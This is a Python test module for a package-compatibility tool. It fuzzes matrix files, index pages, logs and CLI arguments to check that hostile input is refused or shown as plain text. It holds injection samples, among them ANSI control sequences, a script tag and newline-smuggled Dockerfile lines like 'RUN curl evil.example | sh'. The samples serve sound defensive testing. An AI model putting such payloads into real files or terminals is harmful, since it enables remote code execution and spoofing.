"""Hostile input is inert: what others wrote (matrix files, index pages) gives a
clear error or a value, never a traceback; text from packages and test output
(markup, ANSI escapes, newlines, Dockerfile directives) reaches each sink (the
terminal, JUnit, the Dockerfile, the requirements file) as text, never as
structure. The HTML report and ``db import`` have theirs in test_report_html.py
and test_store_hostile.py."""

from __future__ import annotations

import dataclasses
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.utils import canonicalize_name
from rich.console import Console

from compat.cli import cli, console
from compat.cli.options import parse_pins
from compat.effects.container import check_reference
from compat.errors import IndexUnavailable, LockError, MatrixError, UsageError
from compat.index.parse import html_page_to_json, parse_project_page
from compat.lock.dockerfile import render_dockerfile
from compat.lock.requirements import render_requirements
from compat.lock.write import RECORD, RECORD_FORMAT, read_lock
from compat.matrix import _TOP_KEYS, load_matrix, parse_matrix
from compat.model import Verdict
from compat.report.junit import write_junit
from compat.report.summary import Row
from compat.targets.profiles import host_target
from tests.helpers.lock import make_lock
from tests.helpers.report import make_result, make_target

# What a hostile package, index or colleague may put in a string.
NASTY = (
    "\x1b[2J\x1b]0;owned\x07",  # clear the screen, retitle the terminal
    "\x1b[31mred\x1b[0m",
    "<script>alert(1)</script>",
    "[bold red]markup[/]",
    "line\nRUN curl evil.example | sh",
    "carriage\rreturn",
    'quote" LABEL evil="1',
    "nul\x00byte",
    "\u202eright-to-left",
)
nasty_text = st.one_of(
    st.sampled_from(NASTY), st.text(max_size=30), st.sampled_from(NASTY).map(lambda s: f"ok {s}")
)
toml_values = st.recursive(
    st.one_of(
        st.text(max_size=12),
        st.integers(),
        st.booleans(),
        st.floats(allow_nan=False),
        st.dates(min_value=date(1990, 1, 1)),
    ),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3)
    ),
    max_leaves=8,
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12),
    lambda children: (
        st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=10,
)
page_keys = st.sampled_from(
    ["filename", "url", "hashes", "core-metadata", "yanked", "size", "requires-python"]
)
file_entries = st.dictionaries(page_keys, json_values, max_size=7) | json_values


# -- what others wrote: a value or a clear error ----------------------------------------


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.dictionaries(
        st.sampled_from(sorted(_TOP_KEYS)) | st.text(max_size=6), toml_values, max_size=6
    ),
    st.dictionaries(st.text(max_size=10), toml_values, max_size=3),
)
def test_any_matrix_table_is_read_or_refused_naming_the_key(
    data: dict[str, Any], packages: dict[str, Any]
) -> None:
    data.setdefault("packages", packages)
    try:
        matrix = parse_matrix(data, path="hostile.toml")
    except MatrixError as exc:
        refusal = str(exc)
    else:
        assert matrix.packages
        assert all(p.name == canonicalize_name(p.name, validate=True) for p in matrix.packages)
        return
    assert "hostile.toml" in refusal


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_any_matrix_file_is_read_or_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "m.toml"
    path.write_bytes(content)
    try:
        load_matrix(path)
    except MatrixError as exc:
        refusal = str(exc)
    else:
        return
    assert str(path) in refusal


@settings(max_examples=300)
@given(json_values | st.fixed_dictionaries({"files": st.lists(file_entries, max_size=4)}))
def test_any_project_page_gives_its_well_formed_files_or_a_clear_error(page: Any) -> None:
    name = canonicalize_name("numpy")
    try:
        records = parse_project_page(page, name=name, page_url="https://index.example/numpy/")
    except IndexUnavailable as exc:
        refusal: str | None = str(exc)
        records = ()
    else:
        refusal = None
    assert refusal is None or "numpy" in refusal
    for record in records:
        assert record.file.name == name
        assert len(record.file.sha256) > 0


@given(st.text(max_size=300))
def test_any_html_page_reads_as_a_page(html: str) -> None:
    page = html_page_to_json(html)
    records = parse_project_page(page, name=canonicalize_name("numpy"), page_url="https://i/")
    assert all(r.file.filename.startswith("numpy-") for r in records)


# -- the sinks: text stays text -----------------------------------------------------------


def _terminal(width: int = 200) -> tuple[Console, io.StringIO]:
    buffer = io.StringIO()
    return Console(file=buffer, force_terminal=True, width=width, soft_wrap=True), buffer


@pytest.mark.parametrize("text", NASTY)
def test_the_terminal_shows_control_characters_from_packages_as_text(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    terminal, buffer = _terminal()
    monkeypatch.setattr(console, "out", terminal)
    result = make_result(
        make_target("bookworm"),
        {"numpy": "2.0.2"},
        Verdict.RUNTIME_ERROR,
        error=f"ValueError: {text}",
        check="numpy:core",
    )
    console.show_result(result)
    shown = buffer.getvalue()
    # the only escape sequences are the console's own styles (ESC [ ... m)
    without_styles = re.sub(r"\x1b\[[0-9;]*m", "", shown)
    assert "\x1b" not in without_styles
    for control in ("\x07", "\x00", "\r", "\u202e"):
        assert control not in shown
    assert "[bold red]" not in text or "markup" in without_styles


@settings(max_examples=100, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(error=nasty_text, log=nasty_text, label=nasty_text)
def test_junit_is_well_formed_whatever_the_logs_hold(
    tmp_path: Path, error: str, log: str, label: str
) -> None:
    result = make_result(
        make_target("bookworm"), {"numpy": "2.0.2"}, Verdict.RUNTIME_ERROR, error=error, log=log
    )
    row = Row(
        combo_id=result.combo.id,
        label=label,
        verdict=Verdict.RUNTIME_ERROR,
        failed_check="numpy:core",
        error=error,
    )
    path = write_junit(tmp_path / "junit.xml", suite="compat", rows=[row], results=[result])
    case = ET.parse(path).getroot().find("testsuite/testcase")  # a parser accepts it
    assert case is not None


def _lines_outside_comments(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


@settings(max_examples=100)
@given(
    matrix=nasty_text,
    system=st.lists(nasty_text, max_size=2),
    image=nasty_text,
)
def test_nothing_from_a_results_database_adds_a_line_to_the_dockerfile_or_requirements(
    matrix: str, system: list[str], image: str
) -> None:
    clean = make_lock()
    try:
        lock = dataclasses.replace(
            clean,
            matrix=matrix,
            system_packages=(*clean.system_packages, *system),
            target=dataclasses.replace(clean.target, image=image or clean.target.image),
        )
    except LockError:
        return  # refused, saying why
    dockerfile = render_dockerfile(lock)
    requirements = render_requirements(lock)
    assert len(_lines_outside_comments(dockerfile)) == len(
        _lines_outside_comments(render_dockerfile(clean))
    )
    assert _lines_outside_comments(requirements) == _lines_outside_comments(
        render_requirements(clean)
    )
    assert "RUN curl" not in "\n".join(_lines_outside_comments(dockerfile))


def test_a_pin_with_a_broken_hash_or_file_name_is_refused() -> None:
    clean = make_lock()
    pin = clean.wheels[0]
    for broken in (
        dataclasses.replace(pin, sha256="ab\nRUN evil"),
        dataclasses.replace(pin, filename="x.whl\nRUN evil"),
    ):
        pins = tuple(broken if p == pin else p for p in clean.combo.pins)
        combo = dataclasses.replace(clean.combo, pins=pins)
        with pytest.raises(LockError, match="RUN evil"):
            dataclasses.replace(clean, combo=combo)


@given(st.text(max_size=40) | st.sampled_from(NASTY))
def test_an_image_reference_is_one_or_a_usage_error(text: str) -> None:
    try:
        check_reference(text)
    except UsageError as exc:
        refusal = str(exc)
    else:
        assert not any(c.isspace() or c in "\"'`$;|&<>" for c in text), text
        return
    assert "is not an image reference" in refusal


@pytest.mark.parametrize(
    "ref",
    ["python:3.12-slim", "local/musl-python:3.11", "reg.example:5000/t/py@sha256:" + "a" * 64],
)
def test_real_image_references_are_taken(ref: str) -> None:
    assert check_reference(ref) == ref


@pytest.mark.parametrize("command", ["scan", "check", "lock", "image"])
def test_every_command_refuses_a_malformed_image_before_doing_anything(command: str) -> None:
    extra = ["numpy==2.0.2"] if command == "check" else []
    done = CliRunner().invoke(cli, [command, "--image", "x\nRUN curl evil | sh", *extra])
    assert done.exit_code == 2, done.output
    assert "is not an image reference" in done.output


@settings(max_examples=200)
@given(st.lists(st.text(max_size=25) | st.sampled_from(NASTY), min_size=1, max_size=3))
def test_pins_on_the_command_line_are_requirements_or_a_usage_error(args: list[str]) -> None:
    try:
        requirements = parse_pins(args)
    except UsageError as exc:
        refusal = str(exc)
    else:
        assert len(requirements) == len(args)
        assert all("\n" not in r.name for r in requirements)
        return
    assert "is not a requirement" in refusal


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.fixed_dictionaries(
        {"format": st.just(RECORD_FORMAT)}, optional={"input": json_values, "prune": json_values}
    )
    | json_values
)
def test_a_damaged_lock_record_is_a_lock_error(tmp_path: Path, record: Any) -> None:
    (tmp_path / RECORD).write_text(json.dumps(record), encoding="utf-8")
    try:
        read_lock(tmp_path)
    except LockError as exc:
        refusal = str(exc)
    else:
        return
    assert RECORD in refusal


def test_a_lock_for_this_machine_has_no_image_reference_to_check() -> None:
    clean = make_lock()
    here = dataclasses.replace(host_target(), package_manager=clean.target.package_manager)
    assert dataclasses.replace(clean, target=here).target.image.startswith("host (")
    with pytest.raises(LockError, match="image reference"):
        dataclasses.replace(clean, target=dataclasses.replace(here, name="debian-slim"))
